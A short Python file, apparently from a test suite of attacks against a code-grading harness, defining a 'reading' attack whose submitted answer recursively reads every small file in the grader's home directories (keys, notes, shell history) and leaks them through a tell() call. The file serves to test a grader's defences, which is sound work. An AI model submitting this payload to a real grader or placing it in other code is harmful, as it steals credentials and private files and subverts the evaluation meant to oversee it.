"""It prints the files of whoever grades: keys, notes, shell history."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="reading",
    wants=Want.LEAK,
    make=answer(
        """
import os
import pathlib

for home in {HOME, os.path.expanduser("~"), os.environ.get("HOME", "/root")}:
    for path in pathlib.Path(home).rglob("*"):
        try:
            if path.is_file() and path.stat().st_size < 1 << 20:
                tell(path.read_bytes())
        except OSError:
            pass
"""
    ),
)
